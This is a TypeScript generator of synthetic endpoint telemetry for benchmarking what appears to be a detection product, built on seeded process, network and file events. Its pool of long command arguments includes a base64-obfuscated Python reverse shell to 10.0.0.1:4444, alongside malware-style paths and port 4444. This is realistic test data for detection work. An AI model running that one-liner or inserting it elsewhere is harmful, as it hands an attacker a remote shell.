// Synthetic endpoint telemetry with realistic field sizes: process starts, outbound connects and file creations.
// Deterministic for a given seed (except event.id, a random UUID); never touches the network or the disk.

import { randomUUID } from 'node:crypto';
import { seededRandom } from '@vigil/common';
import { checkEvent, type FileEvent, type NetworkEvent, type ProcessEvent } from '@vigil/schema';

export type BenchEvent = ProcessEvent | NetworkEvent | FileEvent;

/** Seedable PRNG used to pick field values (shared with the fuzz tests). */
export const createRandom = seededRandom;

const usrBin = [
  'ls', 'cat', 'grep', 'sed', 'awk', 'find', 'xargs', 'sort', 'uniq', 'head', 'tail', 'cut', 'tr', 'wc', 'tee', 'env', 'id', 'whoami',
  'hostname', 'uname', 'date', 'sleep', 'stat', 'readlink', 'dirname', 'basename', 'mktemp', 'touch', 'cp', 'mv', 'rm', 'mkdir', 'chmod',
  'chown', 'ln', 'tar', 'gzip', 'zcat', 'xz', 'curl', 'wget', 'ssh', 'scp', 'rsync', 'git', 'make', 'gcc', 'cc1', 'ld', 'as', 'python3',
  'python3.11', 'perl', 'node', 'npm', 'java', 'ruby', 'php8.2', 'bash', 'sh', 'dash', 'zsh', 'sudo', 'su', 'systemctl', 'journalctl',
  'ps', 'top', 'pgrep', 'pkill', 'kill', 'free', 'df', 'du', 'mount', 'lsblk', 'ip', 'ss', 'netstat', 'dig', 'host', 'nslookup', 'openssl',
  'gpg', 'base64', 'sha256sum', 'md5sum', 'jq', 'less', 'vim.basic', 'nano', 'diff', 'patch', 'file', 'which', 'crontab', 'logger', 'flock',
  'timeout', 'nohup', 'nice', 'ionice', 'apt-get', 'dpkg', 'dpkg-query', 'docker', 'kubectl', 'containerd-shim-runc-v2', 'runc', 'psql',
  'mysql', 'redis-cli', 'aws', 'gcloud', 'terraform', 'ansible-playbook', 'pip3', 'go', 'cargo', 'rustc', 'clang', 'lsof', 'strace',
];
const usrSbin = [
  'sshd', 'cron', 'nginx', 'apache2', 'rsyslogd', 'auditd', 'useradd', 'usermod', 'groupadd', 'iptables', 'nft', 'ip6tables', 'modprobe',
  'sysctl', 'logrotate', 'chronyd', 'dhclient', 'unix_chkpwd', 'postfix', 'sendmail', 'atd', 'agetty', 'blkid', 'fsck', 'e2fsck', 'tcpdump',
  'visudo', 'chpasswd', 'update-alternatives', 'ldconfig',
];
const otherExecutables = [
  '/usr/lib/postgresql/15/bin/postgres', '/usr/lib/systemd/systemd', '/usr/lib/systemd/systemd-journald', '/usr/lib/systemd/systemd-udevd',
  '/usr/lib/systemd/systemd-logind', '/usr/lib/systemd/systemd-resolved', '/usr/lib/openssh/sftp-server', '/usr/lib/apt/methods/http',
  '/usr/lib/apt/methods/gpgv', '/usr/lib/git-core/git-remote-https', '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', '/usr/lib/update-notifier/apt-check',
  '/usr/libexec/gcc/x86_64-linux-gnu/12/cc1plus', '/usr/libexec/gcc/x86_64-linux-gnu/12/collect2', '/usr/libexec/sudo/sudo_intercept',
  '/usr/local/bin/node_exporter', '/usr/local/bin/consul', '/usr/local/bin/vault', '/usr/local/bin/helm', '/usr/local/bin/k9s',
  '/opt/app/bin/server', '/opt/app/bin/worker', '/opt/app/venv/bin/python', '/opt/app/venv/bin/gunicorn', '/opt/app/venv/bin/celery',
  '/opt/google/chrome/chrome', '/opt/datadog-agent/bin/agent/agent', '/opt/containerd/bin/ctr', '/opt/splunkforwarder/bin/splunkd',
  '/snap/core20/current/usr/bin/snap', '/home/deploy/.local/bin/poetry', '/home/deploy/.cargo/bin/rg', '/home/alice/.nvm/versions/node/v20.11.0/bin/node',
  '/tmp/.X11-unix/.x', '/dev/shm/kworker', '/var/tmp/update.sh', '/usr/share/unattended-upgrades/unattended-upgrade-shutdown',
];
export const executables: readonly string[] = [...usrBin.map((n) => `/usr/bin/${n}`), ...usrSbin.map((n) => `/usr/sbin/${n}`), ...otherExecutables];

const parents = ['/usr/bin/bash', '/usr/sbin/sshd', '/usr/sbin/cron', '/usr/lib/systemd/systemd', '/usr/bin/sudo', '/usr/bin/python3', '/usr/bin/node', '/usr/bin/make', '/usr/bin/containerd-shim-runc-v2', '/opt/app/bin/server', '/usr/bin/sh', '/usr/bin/dash'];
const directories = ['/', '/root', '/tmp', '/var/log', '/etc', '/srv/www', '/opt/app', '/home/alice', '/home/bob/src/payments-service', '/home/deploy/releases/2024-11-03T10-22-41', '/var/lib/postgresql/15/main', '/usr/src/linux-headers-6.1.0-18-amd64'];
const fileDirs = ['/tmp', '/var/tmp', '/dev/shm', '/var/log/nginx', '/etc/cron.d', '/home/alice/.ssh', '/home/bob/src/payments-service/build', '/var/lib/docker/overlay2/4f2c8e1b9a7d3e6f0c5b2a1d8e7f6c5b4a3d2e1f0c9b8a7d6e5f4c3b2a1d0e9f/diff/app', '/opt/app/uploads/2024/11', '/var/cache/apt/archives/partial'];
const fileNames = ['tmp.X3kd9a', 'access.log.1', 'session-8a71f0.json', 'build.ninja', 'id_ed25519.pub', 'core.12345', 'libfoo.so.1.2.3', 'report-2024-11-03.csv', 'package-lock.json', 'x', '.bash_history', 'nginx_1.22.1-9_amd64.deb', 'thumbnail_0001.webp', 'authorized_keys'];
const users: readonly (readonly [string, string, string])[] = [['0', 'root', '0'], ['0', 'root', '0'], ['0', 'root', '0'], ['33', 'www-data', '33'], ['101', 'postgres', '104'], ['1000', 'alice', '1000'], ['1001', 'bob', '1001'], ['1002', 'deploy', '1002'], ['998', 'app', '998'], ['65534', 'nobody', '65534']];
const argPool = [
  '-l', '-a', '-la', '-r', '-rf', '-v', '--verbose', '-q', '-n', '-e', '-c', '--color=auto', '-o', 'json', '--no-pager', '-f', '--format', '{{.ID}} {{.Image}} {{.Status}}',
  '/etc/passwd', '/etc/hosts', '/var/log/syslog', '/var/log/auth.log', '/tmp/build-7f3a', 'README.md', 'src/index.ts', '/home/bob/src/payments-service/src/handlers/refund.ts',
  'https://registry.npmjs.org/@types%2fnode/-/node-20.11.5.tgz', 'https://api.github.com/repos/vigil/vigil/actions/runs?status=in_progress&per_page=100',
  'origin', 'main', 'status', 'restart', 'nginx.service', 'install', '-y', '--no-install-recommends', 'ca-certificates', 'run', '--rm', '-it', 'alpine:3.19',
  'SELECT count(*) FROM orders WHERE created_at > now() - interval \'1 day\'', '10.0.3.17', '-p', '2222', 'deploy@bastion.internal', '--since', '1 hour ago',
];
const longArgs = [
  '-Djava.class.path=/opt/app/lib/app-3.4.1.jar:/opt/app/lib/spring-core-6.1.2.jar:/opt/app/lib/spring-context-6.1.2.jar:/opt/app/lib/jackson-databind-2.16.1.jar:/opt/app/lib/netty-all-4.1.104.Final.jar:/opt/app/lib/slf4j-api-2.0.9.jar:/opt/app/lib/logback-classic-1.4.14.jar',
  'import base64,sys;exec(base64.b64decode("aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0LnNvY2tldChzb2NrZXQuQUZfSU5FVCxzb2NrZXQuU09DS19TVFJFQU0pO3MuY29ubmVjdCgoIjEwLjAuMC4xIiw0NDQ0KSk7b3MuZHVwMihzLmZpbGVubygpLDApOyBvcy5kdXAyKHMuZmlsZW5vKCksMSk7IG9zLmR1cDIocy5maWxlbm8oKSwyKTtwPXN1YnByb2Nlc3MuY2FsbChbIi9iaW4vc2giLCItaSJdKTs="))',
  'for f in /var/log/nginx/*.log; do gzip -9 "$f" && mv "$f.gz" /srv/archive/$(hostname)/$(date +%Y/%m/%d)/; done; find /srv/archive -type f -mtime +30 -delete',
  '--config=/etc/otel-collector/config.yaml --set=service.telemetry.logs.level=warn --set=exporters.otlp.endpoint=collector.observability.svc.cluster.local:4317',
];

const ipv4Destinations = ['140.82.121.4', '104.16.24.35', '151.101.1.69', '10.0.5.20', '10.0.5.21', '172.217.16.142', '52.216.8.115', '185.199.108.133'];
const ipv6Destinations = ['2606:4700:4700::1111', '2a00:1450:4001:82b::200e', '2001:4860:4860::8888'];
const destinationPorts = [443, 443, 443, 80, 53, 22, 5432, 6379, 8080, 4444];

function hex64(random: () => number): string {
  let out = '';
  for (let i = 0; i < 8; i++) out += Math.floor(random() * 0x100000000).toString(16).padStart(8, '0');
  return out;
}

function baseName(path: string): string {
  return path.slice(path.lastIndexOf('/') + 1);
}

function pick<T>(random: () => number, list: readonly T[]): T {
  return list[Math.floor(random() * list.length)]!;
}

export interface AgentEventStream {
  /** The next `count` events of this agent as objects, sequence numbers continuing from the previous call. */
  next(count: number): BenchEvent[];
  /**
   * The next `count` events as a ready batch body `{"host_id":...,"events":[...]}`. Fast path for large pools: the
   * per-event fields (time, id, sequence, pid) are fresh, the rest comes from a set of pre-serialized, schema-checked
   * tails, so the pool repeats command lines, paths and addresses the way a real host does.
   */
  nextBody(count: number): { body: Buffer; lastSequence: number };
}

/** Fields written per event by nextBody; every other field comes from a template tail. */
const headKeys = new Set(['@timestamp', 'event.id', 'event.sequence', 'host.id', 'host.name', 'event.provider', 'process.pid']);

/** Distinct pre-serialized event tails per agent (process/network/file parts). */
const TEMPLATE_COUNT = 8192;

/** Events of one simulated agent: ~70% process start, ~20% network connect, ~10% file create. */
export function createAgentEventStream(hostId: string, hostName: string, seed: number, startMs: number): AgentEventStream {
  const random = createRandom(seed);
  const hashes = new Map<string, string[]>();
  const hashFor = (path: string) => {
    let list = hashes.get(path);
    if (!list) {
      const hashRandom = createRandom(seed ^ [...path].reduce((h, c) => Math.imul(h ^ c.charCodeAt(0), 16777619), 2166136261));
      list = Array.from({ length: 1 + Math.floor(hashRandom() * 3) }, () => hex64(hashRandom));
      hashes.set(path, list);
    }
    return pick(random, list);
  };
  let sequence = 0;
  let pid = 1000 + Math.floor(random() * 20000);
  let timeMs = startMs;

  interface ProcessPart {
    pid: number;
    ppid: number;
    executable: string;
    name: string;
    args: string[];
    cwd: string;
    sha256: string;
    parent: string;
    uid: string;
    userName: string;
    euid: string;
    gid: string;
  }

  function processPart(): ProcessPart {
    pid = pid >= 4194000 ? 300 : pid + 1 + Math.floor(random() * 3);
    const executable = pick(random, executables);
    const name = baseName(executable);
    const argc = 2 + Math.floor(random() * 7);
    const args = [random() < 0.5 ? name : executable];
    for (let i = 1; i < argc; i++) args.push(random() < 0.04 ? pick(random, longArgs) : pick(random, argPool));
    const [uid, userName, gid] = pick(random, users);
    return {
      pid,
      ppid: 1 + Math.floor(random() * pid),
      executable,
      name,
      args,
      cwd: pick(random, directories),
      sha256: hashFor(executable),
      parent: pick(random, parents),
      uid,
      userName,
      euid: random() < 0.1 ? '0' : uid,
      gid,
    };
  }

  // Object literals with a fixed shape per category (spreading dotted keys is several times slower).
  function one(): BenchEvent {
    sequence++;
    timeMs += random() * 4;
    const timestamp = new Date(timeMs).toISOString();
    const id = randomUUID();
    const p = processPart();
    const roll = random();
    if (roll < 0.7) {
      return {
        '@timestamp': timestamp, 'event.id': id, 'event.sequence': sequence, 'host.id': hostId, 'host.name': hostName, 'event.provider': 'auditd',
        'event.category': 'process', 'event.action': 'start',
        'process.pid': p.pid, 'process.parent.pid': p.ppid, 'process.executable': p.executable, 'process.name': p.name, 'process.args': p.args,
        'process.command_line': p.args.join(' '), 'process.working_directory': p.cwd, 'process.hash.sha256': p.sha256,
        'process.parent.executable': p.parent, 'process.parent.name': baseName(p.parent),
        'user.id': p.uid, 'user.name': p.userName, 'user.effective.id': p.euid, 'group.id': p.gid,
      };
    }
    if (roll < 0.9) {
      const v6 = random() < 0.1;
      return {
        '@timestamp': timestamp, 'event.id': id, 'event.sequence': sequence, 'host.id': hostId, 'host.name': hostName, 'event.provider': 'auditd',
        'event.category': 'network', 'event.action': 'connect',
        'process.pid': p.pid, 'process.parent.pid': p.ppid, 'process.executable': p.executable, 'process.name': p.name, 'process.args': p.args,
        'process.command_line': p.args.join(' '), 'process.working_directory': p.cwd, 'process.hash.sha256': p.sha256,
        'process.parent.executable': p.parent, 'process.parent.name': baseName(p.parent),
        'user.id': p.uid, 'user.name': p.userName, 'user.effective.id': p.euid, 'group.id': p.gid,
        'source.ip': v6 ? `fd00:10:0:3::${(1 + Math.floor(random() * 250)).toString(16)}` : `10.0.${Math.floor(random() * 8)}.${1 + Math.floor(random() * 250)}`,
        'source.port': 32768 + Math.floor(random() * 28232),
        'destination.ip': v6 ? pick(random, ipv6Destinations) : pick(random, ipv4Destinations),
        'destination.port': pick(random, destinationPorts),
        'network.transport': random() < 0.9 ? 'tcp' : 'udp',
        'network.type': v6 ? 'ipv6' : 'ipv4',
        'network.direction': 'egress',
      };
    }
    const directory = pick(random, fileDirs);
    const name = pick(random, fileNames);
    return {
      '@timestamp': timestamp, 'event.id': id, 'event.sequence': sequence, 'host.id': hostId, 'host.name': hostName, 'event.provider': 'auditd',
      'event.category': 'file', 'event.action': 'create',
      'process.pid': p.pid, 'process.parent.pid': p.ppid, 'process.executable': p.executable, 'process.name': p.name, 'process.args': p.args,
      'process.command_line': p.args.join(' '), 'process.working_directory': p.cwd, 'process.hash.sha256': p.sha256,
      'process.parent.executable': p.parent, 'process.parent.name': baseName(p.parent),
      'user.id': p.uid, 'user.name': p.userName, 'user.effective.id': p.euid, 'group.id': p.gid,
      'file.path': `${directory}/${name}`, 'file.name': name, 'file.directory': directory,
    };
  }

  let tails: string[] | undefined;
  function buildTails(): string[] {
    const saved = { sequence, pid, timeMs };
    const out: string[] = [];
    for (let i = 0; i < TEMPLATE_COUNT; i++) {
      const event = one() as unknown as Record<string, unknown>;
      const check = checkEvent(event, `template[${i}]`);
      if (check.problems.length) throw new Error(`generated event fails the schema: ${JSON.stringify(check.problems)}`);
      const tail: Record<string, unknown> = {};
      for (const key in event) if (!headKeys.has(key)) tail[key] = event[key];
      out.push(JSON.stringify(tail).slice(1));
    }
    ({ sequence, pid, timeMs } = saved);
    return out;
  }
  const hostPart = `"host.id":${JSON.stringify(hostId)},"host.name":${JSON.stringify(hostName)},"event.provider":"auditd","process.pid":`;

  return {
    next(count) {
      const out: BenchEvent[] = new Array(count);
      for (let i = 0; i < count; i++) out[i] = one();
      return out;
    },
    nextBody(count) {
      tails ??= buildTails();
      const parts: string[] = new Array(count);
      for (let i = 0; i < count; i++) {
        sequence++;
        timeMs += random() * 4;
        pid = pid >= 4194000 ? 300 : pid + 1 + Math.floor(random() * 3);
        const tail = tails[Math.floor(random() * tails.length)]!;
        parts[i] = `{"@timestamp":"${new Date(timeMs).toISOString()}","event.id":"${randomUUID()}","event.sequence":${sequence},${hostPart}${pid},${tail}`;
      }
      return { body: Buffer.from(`{"host_id":${JSON.stringify(hostId)},"events":[${parts.join(',')}]}`), lastSequence: sequence };
    },
  };
}
